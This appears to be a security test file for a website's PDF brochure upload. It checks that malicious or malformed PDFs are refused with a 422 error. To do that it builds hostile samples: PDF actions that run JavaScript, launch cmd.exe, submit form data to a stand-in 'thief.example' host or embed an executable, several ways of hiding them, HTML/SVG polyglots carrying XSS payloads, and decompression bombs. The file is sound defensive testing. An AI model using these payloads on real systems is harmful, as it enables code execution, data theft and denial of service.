import { randomBytes } from "node:crypto";
import { deflateRawSync, deflateSync } from "node:zlib";
import { afterAll, beforeAll, expect } from "vitest";
import { type Count, isQuick, proof } from "#test/proof/proof.ts";
import { samplePdf } from "#test/support/files.ts";
import { file, form } from "#test/support/form.ts";
import { Site } from "#test/support/site.ts";

const megabyte = 1024 * 1024;
/** Milliseconds in which /healthz must answer during every upload. */
const longestHealthy = 100;

const site = new Site({ LOG_LEVEL: "fatal" }, { onTestDatabase: true });
let token: string;
let uploads = 0;
beforeAll(async () => {
  await site.start();
  token = await site.adminToken();
});
afterAll(() => site.dispose());

async function upload(bytes: Uint8Array) {
  const answer = await fetch(`${site.url}/api/brochures`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}` },
    body: form({ name: `Upload ${++uploads}` }, { file: file(bytes, "any.pdf") }),
  });
  return { status: answer.status, body: await answer.json() };
}

async function expectRefused(count: Count, what: string, bytes: Uint8Array) {
  count.try();
  const { status, body } = await upload(bytes);
  const [error] = body.errors ?? [];
  if (status !== 422 || error?.field !== "file") count.fail(`${what}: ${status} ${JSON.stringify(body)}`);
}

async function healthDuring(work: () => Promise<unknown>): Promise<number> {
  let longest = 0;
  let isDone = false;
  const done = work().finally(() => {
    isDone = true;
  });
  while (!isDone) {
    const start = performance.now();
    expect((await fetch(`${site.url}/healthz`)).status).toBe(200);
    longest = Math.max(longest, performance.now() - start);
  }
  await done;
  return longest;
}

/**
 * Takes the quickest of three tries, since other load on the machine slows only some. If all are slow, an upload of as many zero
 * bytes sets the limit.
 */
async function measured(bytes: Uint8Array) {
  let status = 0;
  const waitFor = (given: Uint8Array) =>
    healthDuring(async () => {
      status = (await upload(given)).status;
    });
  let limit = longestHealthy;
  let wait = await waitFor(bytes);
  for (let tries = 0; tries < 2 && wait > limit; tries++) {
    limit = Math.max(limit, 3 * (await waitFor(Buffer.alloc(bytes.length))));
    wait = Math.min(wait, await waitFor(bytes));
  }
  return { status, wait, limit };
}

function pdf(...parts: (string | Buffer)[]): Buffer {
  const all = ["%PDF-1.7\n", ...parts, "\ntrailer <</Root 1 0 R>>\n%%EOF\n"];
  return Buffer.concat(all.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)));
}

const catalog = "1 0 obj <</Type /Catalog /Pages 2 0 R";
const pages = "2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n";

function packed(words: string, data: Buffer): Buffer {
  const head = `5 0 obj <</Type /ObjStm /N 1 /First 4 ${words} /Length ${data.length}>> stream\n`;
  return pdf(`${catalog}>> endobj\n`, pages, head, data, "\nendstream endobj\n");
}

function hex(data: Buffer): Buffer {
  return Buffer.from(`${data.toString("hex")}>`);
}

function base85(data: Buffer): Buffer {
  let text = "";
  for (let at = 0; at < data.length; at += 4) {
    const part = data.subarray(at, at + 4);
    let value = Buffer.concat([part, Buffer.alloc(4 - part.length)]).readUInt32BE();
    let group = "";
    for (let digit = 0; digit < 5; digit++) {
      group = String.fromCharCode(33 + (value % 85)) + group;
      value = Math.floor(value / 85);
    }
    text += group.slice(0, part.length + 1);
  }
  return Buffer.from(`${text}~>`);
}

const actions: [name: string, dictionary: string][] = [
  ["JavaScript", "<</S /JavaScript /JS (app.alert\\(1\\))>>"],
  ["Launch", "<</S /Launch /F (cmd.exe)>>"],
  ["SubmitForm", "<</S /SubmitForm /F (https://thief.example)>>"],
  ["ImportData", "<</S /ImportData /F (data.fdf)>>"],
  ["GoToR", "<</S /GoToR /F (\\\\\\\\thief.example\\\\share\\\\a.pdf) /D [0 /Fit]>>"],
  ["GoToE", "<</S /GoToE /T <</R /C /N (inner.pdf)>>>>"],
  ["Rendition", "<</S /Rendition /OP 0 /JS (app.alert\\(1\\))>>"],
  ["RichMedia", "<</Type /Annot /Subtype /RichMedia>>"],
  ["EmbeddedFile", "<</Names [(a.exe) <</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>]>>"],
  ["FileAttachment", "<</Type /Annot /Subtype /FileAttachment /FS 9 0 R>>"],
  ["XFA", "<</XFA 9 0 R>>"],
];
const places: [where: string, words: string][] = [
  ["when the document is opened", "/OpenAction"],
  ["when it is printed", "/AA <</WP"],
  ["in its names", "/Names <</Any"],
  ["as a form", "/AcroForm"],
];

function escaped(dictionary: string, name: string): string {
  const signs = [...name].map((sign, at) => (at % 2 ? `#${sign.charCodeAt(0).toString(16)}` : sign));
  return dictionary.replaceAll(`/${name}`, `/${signs.join("")}`);
}

proof({
  name: "A PDF that runs scripts, starts programs, sends data or carries files",
  expected: "refused with 422 that names the field and what the file does, however it is packed or written",
  before: "each was taken, and served to be opened inside the site",
  in: "test",
  timeout: 240_000,
  async run(count) {
    for (const [name, dictionary] of isQuick ? actions.slice(0, 2) : actions) {
      for (const [where, words] of places) {
        const closing = words.includes("<<") ? ">>" : "";
        const open = pdf(`${catalog} ${words} ${dictionary}${closing}>> endobj\n`, pages);
        await expectRefused(count, `${name} ${where}`, open);
      }
      const variants = { plain: dictionary, escaped: escaped(dictionary, name) };
      for (const [kind, text] of Object.entries(variants)) {
        const objects = Buffer.from(`7 0 ${text}`);
        const flat = deflateSync(objects);
        const wrongSum = Buffer.concat([flat.subarray(0, -4), Buffer.alloc(4)]);
        const ways: [string, Buffer][] = [
          ["as an object", pdf(`${catalog} /OpenAction 7 0 R>> endobj\n`, pages, `7 0 obj ${text} endobj\n`)],
          ["packed", packed("/Filter /FlateDecode", flat)],
          ["packed with a wrong checksum", packed("/Filter /FlateDecode", wrongSum)],
          ["packed without an end", packed("/Filter /FlateDecode", flat.subarray(0, -6))],
          ["packed twice", packed("/Filter [/FlateDecode /FlateDecode]", deflateSync(flat))],
          ["packed in digits", packed("/Filter [/ASCIIHexDecode /FlateDecode]", hex(flat))],
          ["in digits alone", packed("/Filter /ASCIIHexDecode", hex(objects))],
          ["packed in base 85", packed("/Filter [/ASCII85Decode /FlateDecode]", base85(flat))],
          ["packed by LZW", packed("/Filter /LZWDecode", randomBytes(40))],
          ["packed with a predictor", packed("/Filter /FlateDecode /DecodeParms <</Predictor 12>>", flat)],
          [
            "packed in a file that is not called so",
            Buffer.from(
              packed("/Filter /FlateDecode", flat).toString("latin1").replace("/Type /ObjStm", ""),
              "latin1",
            ),
          ],
        ];
        for (const [way, bytes] of ways) await expectRefused(count, `${name}, ${kind}, ${way}`, bytes);
      }
    }
    const encrypted = samplePdf(1).toString().replace("/Root", "/Encrypt 9 0 R /Root");
    await expectRefused(count, "encrypted", Buffer.from(encrypted));
  },
});

proof({
  name: "A file that is a PDF and something else, or no PDF at all",
  expected: "refused with 422 that names the field",
  before: "a PDF that is a web page too was taken",
  in: "test",
  async run(count) {
    const page = "<!doctype html><script>alert(document.domain)</script>";
    const archive = Buffer.concat([Buffer.from("PK\x05\x06"), Buffer.alloc(18)]);
    await expectRefused(count, "a web page in a comment", pdf(`%${page}\n`, `${catalog}>> endobj\n`, pages));
    await expectRefused(count, "a web page in a stream", pdf("4 0 obj <<>> stream\n", page, "\nendstream\n"));
    await expectRefused(count, "a web page before", Buffer.concat([Buffer.from(page), samplePdf(1)]));
    await expectRefused(count, "a web page behind", Buffer.concat([samplePdf(1), Buffer.from(page)]));
    await expectRefused(count, "an SVG", pdf("%<svg onload=alert(1)>\n", pages));
    await expectRefused(count, "an archive", Buffer.concat([samplePdf(1), archive]));
    await expectRefused(count, "nothing", Buffer.alloc(0));
    await expectRefused(count, "one byte", Buffer.alloc(1));
    await expectRefused(count, "a head and an end", Buffer.from("%PDF-1.7\n%%EOF"));
    await expectRefused(count, "half a document", samplePdf(9).subarray(0, 200));
    const { status } = await upload(samplePdf(3));
    count.try();
    if (status !== 201) count.fail(`an honest document: ${status}`);
  },
});

proof({
  name: "PDFs that take time or memory",
  expected: `answered, refused where they unpack to too much; /healthz within ${longestHealthy} ms all the while`,
  before: "150 packed bombs blocked the server for 5.7 s",
  in: "test:all",
  timeout: 300_000,
  async run(count) {
    const bomb = deflateRawSync(Buffer.alloc(megabyte * 70), { level: 9 });
    const whole = Buffer.concat([Buffer.from([0x78, 0x9c]), bomb]);
    const object = [
      `5 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>> stream\n`,
      whole,
      "\nendstream\n",
    ];
    const part = deflateSync(Buffer.alloc(megabyte / 2));
    const small = [`5 0 obj <</Type /ObjStm /N 1 /First 4>> stream\n`, part, "\nendstream\n"];
    const times = (parts: (string | Buffer)[], most: number) =>
      Array.from({ length: most }, () => parts).flat();
    const filled = (text: string, bytes = 19 * megabyte) => text.repeat(Math.floor(bytes / text.length));
    const files: [what: string, bytes: Buffer, status: number | null][] = [
      ["150 bombs", pdf(...times(object, 150)), 422],
      ["150 bombs of half a megabyte", pdf(...times(small, 150)), 422],
      ["a bomb in a bomb", packed("/Filter /FlateDecode", deflateSync(whole)), 422],
      ["19 MB of chance", pdf("9 0 obj <<>> stream\n", randomBytes(19 * megabyte), "\nendstream\n"), 201],
      ["19 MB of open dictionaries", pdf(filled("<</Type /Pages ")), null],
      ["19 MB of streams", pdf("/ObjStm ", filled("stream\n")), null],
      ["19 MB of slashes", pdf(filled("/")), null],
      ["19 MB of escapes", pdf(filled("/#41#41#41")), null],
      ["19 MB of digits", pdf("/ObjStm ", filled("stream\nab ")), null],
      ["19 MB of blanks", pdf("/ObjStm stream", filled(" ")), null],
    ];
    let slow = 0;
    for (const [what, bytes, expected] of isQuick ? files.slice(0, 4) : files) {
      const start = performance.now();
      const { status, wait, limit } = await measured(bytes);
      count.try();
      count.note(`${what} ${Math.round(performance.now() - start)} ms, /healthz ${Math.round(wait)} ms`);
      if (wait > longestHealthy) slow++;
      if (wait > limit)
        count.fail(`${what}: /healthz took ${Math.round(wait)} ms, ${Math.round(limit)} ms allowed`);
      if (expected === null ? status !== 422 && status !== 201 : status !== expected) {
        count.fail(`${what}: ${status}`);
      }
    }
    if (slow > 0) count.note(`${slow} above ${longestHealthy} ms while harmless uploads took as long`);
  },
});
